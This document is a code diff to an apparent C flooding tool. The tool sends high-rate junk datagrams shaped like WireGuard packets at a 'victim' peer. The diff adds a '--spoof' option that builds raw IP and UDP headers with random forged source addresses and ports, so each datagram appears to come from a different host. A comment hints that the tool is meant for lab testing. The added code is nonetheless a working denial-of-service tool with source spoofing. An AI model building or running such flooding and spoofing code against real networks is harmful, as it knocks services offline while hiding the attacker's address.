@@ -37,6 +37,8 @@ enum
   COUNTER_AHEAD = 1 << 20,
 };
 
+#define SPOOFED_NET UINT32_C (0x0a630000) /* 10.99.0.0/16: nobody's in the lab */
+
 typedef enum
 {
   KIND_UNKNOWN_INDEX, /* type 4, random receiver index */
@@ -67,7 +69,8 @@ typedef struct
   Seen seen;
   WgCrypto *crypto;
   uint8_t mac1_key[WG_HASH_LEN];
-  bool raw; /* with a UDP header of our own: the peer's own port */
+  bool raw;   /* with a UDP header of our own: the peer's own port */
+  bool spoof; /* with an IP header of our own as well: each datagram from another address */
   uint64_t counter, random;
 } Junk;
 
@@ -232,18 +235,50 @@ make (Junk *junk, uint8_t *out)
 
 /* --- Sending --- */
 
+static uint32_t
+headers_len (const Junk *junk)
+{
+  return (junk->spoof ? sizeof (struct iphdr) : 0)
+         + (junk->spoof || junk->raw ? sizeof (struct udphdr) : 0);
+}
+
+/* Of a datagram of `len` bytes, the headers among them. The kernel adds the IP checksum; UDP needs none. */
+static void
+write_headers (Junk *junk, const struct sockaddr_in *to, uint8_t *at, uint32_t len)
+{
+  uint64_t random = draw (&junk->random);
+  struct iphdr ip = { .version = 4,
+                      .ihl = sizeof ip / 4,
+                      .ttl = 64,
+                      .protocol = IPPROTO_UDP,
+                      .saddr = htonl (SPOOFED_NET | (uint32_t) (random & 0xffff)),
+                      .daddr = to->sin_addr.s_addr };
+  struct udphdr udp = { .source = htons (junk->seen.src_port), .dest = to->sin_port };
+
+  if (headers_len (junk) == 0)
+    return;
+  if (junk->spoof)
+    {
+      udp.source = htons ((uint16_t) (random >> 16 | 1024));
+      memcpy (at, &ip, sizeof ip);
+      at += sizeof ip;
+      len -= (uint32_t) sizeof ip;
+    }
+  udp.len = htons ((uint16_t) len);
+  memcpy (at, &udp, sizeof udp);
+}
+
 static uint64_t
 blast (Junk *junk, int fd, const struct sockaddr_in *to, double pps, double seconds)
 {
-  static uint8_t bytes[BATCH][sizeof (struct udphdr) + DATAGRAM_MAX];
+  static uint8_t bytes[BATCH][sizeof (struct iphdr) + sizeof (struct udphdr) + DATAGRAM_MAX];
   struct mmsghdr msgs[BATCH] = { 0 };
   struct iovec iov[BATCH];
   uint64_t start = now_ns (), end = start + (uint64_t) (seconds * 1e9), now = start, sent = 0;
-  uint32_t head = junk->raw ? sizeof (struct udphdr) : 0;
-  struct udphdr udp = { .source = htons (junk->seen.src_port), .dest = to->sin_port };
+  uint32_t head = headers_len (junk);
   struct sockaddr_in name = *to;
 
-  if (junk->raw)
+  if (head > 0)
     name.sin_port = 0;
   while (now < end && sent < COUNT_MAX)
     {
@@ -258,8 +293,7 @@ blast (Junk *junk, int fd, const struct sockaddr_in *to, double pps, double seco
             {
               uint32_t len = head + make (junk, bytes[i] + head);
 
-              udp.len = htons ((uint16_t) len);
-              memcpy (bytes[i], &udp, head);
+              write_headers (junk, to, bytes[i], len);
               iov[i] = (struct iovec){ bytes[i], len };
               msgs[i].msg_hdr = (struct msghdr){
                 .msg_name = &name, .msg_namelen = sizeof name, .msg_iov = &iov[i], .msg_iovlen = 1
@@ -304,8 +338,11 @@ kind_from_name (const char *name)
 static int
 open_socket (const Junk *junk)
 {
-  int fd = socket (AF_INET, (junk->raw ? SOCK_RAW : SOCK_DGRAM) | SOCK_CLOEXEC,
-                   junk->raw ? IPPROTO_UDP : 0);
+  bool raw = junk->raw || junk->spoof;
+  int fd = socket (AF_INET, (raw ? SOCK_RAW : SOCK_DGRAM) | SOCK_CLOEXEC,
+                   junk->spoof ? IPPROTO_RAW
+                   : raw       ? IPPROTO_UDP
+                               : 0);
 
   if (fd < 0)
     g_error ("socket: %s", g_strerror (errno));
@@ -318,7 +355,7 @@ main (int argc, char **argv)
   g_autofree char *address = NULL, *kind = NULL, *watch = NULL, *public_key = NULL;
   double pps = 50000, seconds = 2;
   int size = 100, port = 0;
-  gboolean same_port = FALSE;
+  gboolean same_port = FALSE, spoof = FALSE;
   GOptionEntry entries[] = {
     { "to", 0, 0, G_OPTION_ARG_STRING, &address, "The victim", "IPV4" },
     { "port", 0, 0, G_OPTION_ARG_INT, &port, "Its port; 0: learn it", "PORT" },
@@ -327,6 +364,7 @@ main (int argc, char **argv)
       "FILE" },
     { "same-port", 0, 0, G_OPTION_ARG_NONE, &same_port, "Send from the port of the real traffic",
       NULL },
+    { "spoof", 0, 0, G_OPTION_ARG_NONE, &spoof, "Send from ever other addresses", NULL },
     { "public-key", 0, 0, G_OPTION_ARG_STRING, &public_key, "Of the victim, for mac1", "KEY" },
     { "size", 0, 0, G_OPTION_ARG_INT, &size, "Bytes of a datagram, or at most", "BYTES" },
     { "pps", 0, 0, G_OPTION_ARG_DOUBLE, &pps, "Datagrams per second", "N" },
@@ -351,6 +389,7 @@ main (int argc, char **argv)
   junk.kind = kind_from_name (kind);
   junk.size = (uint32_t) size;
   junk.raw = same_port;
+  junk.spoof = spoof;
   if (getrandom (&junk.random, sizeof junk.random, 0) != sizeof junk.random)
     g_error ("getrandom");
   if (watch)
